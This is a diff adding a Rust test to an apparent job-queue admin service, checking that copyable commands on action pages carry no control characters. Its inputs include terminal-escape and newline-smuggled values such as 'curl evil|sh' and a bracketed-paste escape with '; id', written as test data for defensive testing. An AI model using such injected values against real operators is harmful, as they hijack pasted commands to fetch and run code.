@@ -510,3 +510,44 @@ async fn the_request_that_a_page_shows_does_what_its_button_does() -> Result<()>
     assert_eq!((all.status, &all.json()["count"]), (200, &json!(2)));
     served.stop().await
 }
+
+/// Who enqueues a job chooses its payload. An operator who copies a command must not run something else.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn commands_to_copy_have_no_control_characters() -> Result<()> {
+    let store = Store::connect("memory://").await?;
+    let served = Served::on(&store, "n", "[limiter.api]\nquota = \"1/h\"").await?;
+    let mut client = served.client();
+    let queue = Queue::new(&store, "n", "q")?;
+    let payloads = ["\"\u{7f}\u{9b}31m\"", "{\n\t\"a\":1\r\n}", "\"\u{202e}\""];
+    let texts = [
+        "x\u{3}\ncurl evil|sh\n",
+        "\u{1b}[201~; id\n",
+        "a\u{7f}\u{9b}",
+    ];
+    for (payload, evil) in payloads.into_iter().zip(texts) {
+        let job = queue.enqueue_raw("k", payload.as_bytes()).await?;
+        let job = job.id().context("no id")?;
+        let text: String = evil.bytes().map(|b| format!("%{b:02X}")).collect();
+        for action in [
+            format!("queue.add?queue=q&job={job}"),
+            format!("queue.purge?queue=q&group={text}"),
+            format!("queue.replay?queue=q&letter={text}"),
+            format!("cache.invalidate?name=c&key={text}"),
+            format!("cache.invalidate?name=c&tag={text}"),
+            format!("session.revoke-all?name=web&user={text}"),
+            format!("limiter.reset?name=api&subject={text}"),
+        ] {
+            let page = html(&mut client, &format!("/act/{action}&namespace=n")).await?;
+            let commands: Vec<&str> = page
+                .split("<pre>")
+                .skip(1)
+                .filter_map(|rest| rest.split("</pre>").next())
+                .collect();
+            ensure!(!commands.is_empty(), "{page}");
+            for command in commands {
+                ensure!(!command.contains(char::is_control), "{action}: {command:?}");
+            }
+        }
+    }
+    served.stop().await
+}
